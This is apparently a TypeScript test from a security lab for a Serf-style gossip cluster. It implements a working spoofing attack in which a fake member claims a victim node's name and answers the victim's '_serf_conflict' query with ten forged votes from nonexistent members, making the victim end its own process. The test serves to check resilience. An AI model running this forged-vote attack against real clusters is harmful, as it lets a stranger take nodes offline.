/**
 * Can a stranger end somebody else's process by votes that it makes up?
 *
 * It becomes a member, claims the victim's name for another address, reads the query with which
 * the victim asks who is right, and answers it in the names of members that do not exist.
 */

import type { MsgpackReader } from "../../../src/bytes/msgpack_reader.ts";
import { writeConflictResponse } from "../../../src/serf/queries/conflict_message.ts";
import { serfMessageType } from "../../../src/serf/message_type.ts";
import {
  type QueryMessage,
  readQuery,
  writeResponse,
} from "../../../src/serf/queries/query_messages.ts";
import { writeAlive } from "../../../src/wire/claims.ts";
import { messageType } from "../../../src/wire/message_type.ts";
import type { ClusterAgent } from "../../lab/cluster.ts";
import { FakeMember, gossipPort as port } from "../../lab/fake_member.ts";
import { aliveClaim, ipBytes, message, serfMessage } from "../../lab/frames.ts";
import { delay } from "../../lab/waiting.ts";
import { type Attack, startVictims, survival, Watch } from "./attack.ts";

const ip = "127.66.2.1";
const name = "mallory";
const voters = 10;
/** A vote takes some three seconds in a small cluster. */
const voteSeconds = 6;

export const votes: Attack = async (kind, isShort) => {
  await using victims = await startVictims(kind, 3);
  using watch = await Watch.over(victims.agents);
  using mallory = new Mallory(victims.agents[0]!);
  for (let round = 0; round < (isShort ? 1 : 3) && watch.ended === 0; round++) {
    mallory.claim(round);
    await delay(voteSeconds * 1000);
  }
  if (mallory.heard === 0) throw new Error("The victim asked nobody");
  return survival("invented votes", watch);
};

/** A member that listens for the victim's question. */
class Mallory implements Disposable {
  heard = 0;
  readonly #victim: ClusterAgent;
  readonly #member = new FakeMember(ip, undefined, (type, body) => this.#receive(type, body));

  constructor(victim: ClusterAgent) {
    this.#victim = victim;
    this.#send(message(writeAlive, aliveClaim(name, ip)));
  }

  /** Claims the victim's name for another address. */
  claim(round: number): void {
    const elsewhere = `127.66.3.${1 + round}`;
    const rival = aliveClaim(this.#victim.name, elsewhere, { incarnation: 2 });
    this.#send(message(writeAlive, rival));
  }

  [Symbol.dispose](): void {
    this.#member[Symbol.dispose]();
  }

  #send(packet: Uint8Array): void {
    this.#member.send(this.#victim.ip, packet);
  }

  #receive(type: number, body: MsgpackReader): void {
    if (type !== messageType.user || body.takeByte() !== serfMessageType.query) return;
    const query = readQuery(body);
    if (query.name === "_serf_conflict") this.#vote(query);
  }

  #vote({ ltime, id }: QueryMessage): void {
    this.heard++;
    const versions = { protocolMin: 1, protocolMax: 5, protocolCurrent: 2 };
    const payload = message(writeConflictResponse, {
      name: this.#victim.name,
      ip: ipBytes("127.66.3.1"),
      address: { host: "127.66.3.1", port },
      tags: {},
      status: "alive",
      versions: { ...versions, delegateMin: 2, delegateMax: 5, delegateCurrent: 5 },
    });
    for (let voter = 0; voter < voters; voter++) {
      const vote = { ltime, id, from: `voter-${voter}`, flags: 0, payload };
      this.#send(serfMessage(writeResponse, vote));
    }
  }
}
